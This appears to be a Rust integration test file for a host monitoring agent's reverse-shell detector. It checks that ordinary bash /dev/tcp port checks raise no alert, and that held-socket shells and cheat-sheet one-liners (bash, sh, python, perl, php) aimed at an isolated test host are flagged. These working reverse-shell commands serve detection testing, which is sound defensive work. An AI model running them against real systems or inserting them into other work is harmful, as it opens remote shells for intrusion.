//! Ordinary shell habits are not attacks, and the real thing still is: an admin's port check
//! (`bash -c '</dev/tcp/host/443' && echo open`) and a bash port scan (`echo >
//! /dev/tcp/host/$port`) put one standard stream on a TCP socket for an instant — no
//! `reverse_shell` — while a shell that keeps one stream on the socket (`exec 0<&5`, then
//! waits) or execs a program with it there (`exec cat <&5`) is one. Root, real bash, the real
//! agent; the peer is the low-risk test host `DE4` in a network namespace of its own, where a
//! listener accepts and holds every connection. Every assertion is about the processes this
//! test started (by pid). The classic one-liners of the public cheat sheets, each with a
//! different shape (three streams, one held stream, stdout/stderr then an exec, a shell
//! exec'd on a socket), are still caught.

mod common;

use std::{
    collections::HashSet,
    process::{Command, Stdio},
    thread,
    time::Duration,
};

use common::{
    Agent,
    netns::{DE4, TestNet},
    procs::{Procs, hold_connections},
    require_root, serial,
};
use serde_json::Value;

const PORT: u16 = 4444;

/// Run `script` with bash to the end; it must succeed.
fn bash_ok(script: &str) -> u32 {
    let mut child = Command::new("/bin/bash")
        .args(["-c", script])
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    let pid = child.id();
    assert!(child.wait().unwrap().success(), "{script}");
    pid
}

#[test]
fn port_checks_are_not_reverse_shells_and_a_shell_held_on_one_stream_is() {
    if !require_root("port_checks_are_not_reverse_shells_and_a_shell_held_on_one_stream_is") {
        return;
    }
    let _serial = serial();
    let net = TestNet::new("hb");
    let mut procs = Procs::default();
    hold_connections(&net, PORT, &mut procs);
    let agent = Agent::start("");

    // The habits: each ends at once.
    let check = bash_ok(&format!("</dev/tcp/{DE4}/{PORT} && echo open"));
    let scan = bash_ok(&format!(
        "for i in 1 2 3 4 5; do echo > /dev/tcp/{DE4}/{PORT}; done"
    ));
    let stderr_check = bash_ok(&format!("echo hi 2>/dev/tcp/{DE4}/{PORT} >&2"));

    // A shell that keeps stdin on the socket and waits: judged after it held it.
    let held = procs
        .spawn(Command::new("/bin/bash").args([
            "-c",
            &format!("exec 5<>/dev/tcp/{DE4}/{PORT}; exec 0<&5; sleep 60"),
        ]))
        .id();
    // A shell that execs a program with its stdin on the socket (`cat <&5` of the cheat
    // sheets, as one process).
    let exec = procs
        .spawn(Command::new("/bin/bash").args([
            "-c",
            &format!("exec 5<>/dev/tcp/{DE4}/{PORT}; exec cat <&5"),
        ]))
        .id();

    let held_alert = agent.wait_for("alert", "reverse_shell on the held stdin", |a| {
        a["anomaly"] == "reverse_shell" && a["pid"] == held
    });
    assert_eq!(held_alert["target_ip"], DE4, "{held_alert}");
    assert!(
        held_alert["detail"].as_str().unwrap().contains("stdin"),
        "{held_alert}"
    );
    let exec_alert = agent.wait_for("alert", "reverse_shell on the exec'd cat", |a| {
        a["anomaly"] == "reverse_shell" && a["pid"] == exec
    });
    assert!(
        exec_alert["detail"].as_str().unwrap().contains("exec'd"),
        "{exec_alert}"
    );

    // The checks ran before both shells and were judged before them: give the agent one more
    // hold to be sure. Only this test reaches the test host, whose namespace it made; a check
    // may connect from a child bash forks for a bare redirect, so the checks are told apart
    // from the two shells by pid.
    thread::sleep(Duration::from_secs(3));
    let shells = [held, exec];
    let others: Vec<Value> = agent
        .events("alert")
        .into_iter()
        .filter(|a| a["anomaly"] == "reverse_shell" && a["target_ip"] == DE4)
        .filter(|a| !shells.iter().any(|p| a["pid"] == *p))
        .collect();
    assert!(
        others.is_empty(),
        "a check (pids {check}, {scan}, {stderr_check} or a child) raised {others:?}"
    );
    // And they were seen: the agent had their connects.
    let checkers: HashSet<u64> = agent
        .events("connect")
        .iter()
        .filter(|c| c["daddr"] == DE4 && !shells.iter().any(|p| c["pid"] == *p))
        .filter_map(|c| c["pid"].as_u64())
        .collect();
    assert!(
        checkers.len() >= 3,
        "connects of the checks {check}, {scan}, {stderr_check}: {checkers:?}; they proved nothing"
    );
}

/// The one-liners, by the shape the detector sees: every one must raise `reverse_shell` on
/// the test host.
fn one_liners() -> Vec<(&'static str, Vec<String>)> {
    let (h, p) = (DE4, PORT);
    let sh = |s: String| vec!["/bin/bash".to_string(), "-c".into(), s];
    let mut v = vec![
        (
            "bash -i >& (stdout, stderr, stdin)",
            sh(format!("bash -i >& /dev/tcp/{h}/{p} 0>&1")),
        ),
        (
            "exec 196<> then sh <&196 >&196 2>&196",
            sh(format!(
                "0<&196;exec 196<>/dev/tcp/{h}/{p}; sh <&196 >&196 2>&196"
            )),
        ),
        (
            "cat <&5 | while read line; do $line 2>&5 >&5; done",
            sh(format!(
                "exec 5<>/dev/tcp/{h}/{p}; cat <&5 | while read line; do $line 2>&5 >&5; done"
            )),
        ),
        (
            "sh -i 5<> 0<&5 1>&5 2>&5",
            sh(format!("sh -i 5<> /dev/tcp/{h}/{p} 0<&5 1>&5 2>&5")),
        ),
        (
            "python socket + dup2",
            vec![
                "/usr/bin/python3".into(),
                "-c".into(),
                format!(
                    "import socket,os,pty;s=socket.socket();s.connect(('{h}',{p}));\
                     [os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')"
                ),
            ],
        ),
        (
            "perl open STDIN >&S",
            vec![
                "/usr/bin/perl".into(),
                "-e".into(),
                format!(
                    "use Socket;$i=\"{h}\";$p={p};socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));\
                     if(connect(S,sockaddr_in($p,inet_aton($i)))){{open(STDIN,\">&S\");\
                     open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");}};"
                ),
            ],
        ),
    ];
    if std::path::Path::new("/usr/bin/php").exists() {
        v.push((
            "php fsockopen + exec",
            vec![
                "/usr/bin/php".into(),
                "-r".into(),
                format!("$sock=fsockopen(\"{h}\",{p});exec(\"/bin/sh -i <&3 >&3 2>&3\");"),
            ],
        ));
    }
    v
}

#[test]
fn the_cheat_sheet_one_liners_are_still_caught() {
    if !require_root("the_cheat_sheet_one_liners_are_still_caught") {
        return;
    }
    let _serial = serial();
    let net = TestNet::new("hc");
    let mut procs = Procs::default();
    hold_connections(&net, PORT, &mut procs);
    let agent = Agent::start("");
    let mut missed = Vec::new();
    for (what, argv) in one_liners() {
        let before: HashSet<String> = agent
            .events("alert")
            .iter()
            .filter_map(|a| a["id"].as_str().map(String::from))
            .collect();
        let mut group = Procs::default();
        group.spawn(
            Command::new(&argv[0])
                .args(&argv[1..])
                .stdin(Stdio::null())
                .stdout(Stdio::null())
                .stderr(Stdio::null()),
        );
        let deadline = std::time::Instant::now() + Duration::from_secs(20);
        let caught = loop {
            let hit = agent.events("alert").into_iter().find(|a| {
                a["anomaly"] == "reverse_shell"
                    && a["target_ip"] == DE4
                    && !before.contains(a["id"].as_str().unwrap_or(""))
            });
            if hit.is_some() || std::time::Instant::now() > deadline {
                break hit;
            }
            thread::sleep(Duration::from_millis(200));
        };
        if caught.is_none() {
            missed.push(what);
        }
        drop(group);
    }
    assert!(missed.is_empty(), "not caught: {missed:?}\n{}", agent.log());
}
